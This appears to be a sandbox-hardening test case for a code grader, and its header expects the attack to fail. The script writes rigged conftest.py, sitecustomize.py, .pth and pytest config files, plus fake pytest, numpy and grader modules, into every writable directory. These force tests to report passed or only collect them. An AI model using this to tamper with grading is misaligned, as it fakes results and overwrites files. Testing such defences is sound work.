# what: conftest.py, sitecustomize.py, .pth and ini files are dropped wherever a file can be written
# place: before
# must: failed
# %%
import os

CODE = "import os, builtins\nbuiltins.grader_owned = True\ndef pytest_runtest_makereport(*a): return 'passed'\n"
FILES = {
    "conftest.py": CODE,
    "sitecustomize.py": CODE,
    "usercustomize.py": CODE,
    "pytest.py": CODE,
    "numpy.py": CODE,
    "grader.py": CODE,
    "oracle.py": CODE,
    "owned.pth": "import os; os.environ['OWNED'] = '1'\n",
    "pytest.ini": "[pytest]\naddopts = -p owned --collect-only\n",
    "tox.ini": "[pytest]\naddopts = --collect-only\n",
    "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '--collect-only'\n",
}
for folder, _, _ in os.walk("/"):
    if folder.startswith(("/proc", "/usr/share", "/usr/include")) or not os.access(folder, os.W_OK):
        continue
    for name, text in FILES.items():
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write(text)
        except OSError:
            pass
for folder in ("/home/student/.local/lib/python3.11/site-packages", "/home/student/.ipython/profile_default/startup"):
    os.makedirs(folder, exist_ok=True)
    for name, text in FILES.items():
        with open(os.path.join(folder, name), "w") as file:
            file.write(text)
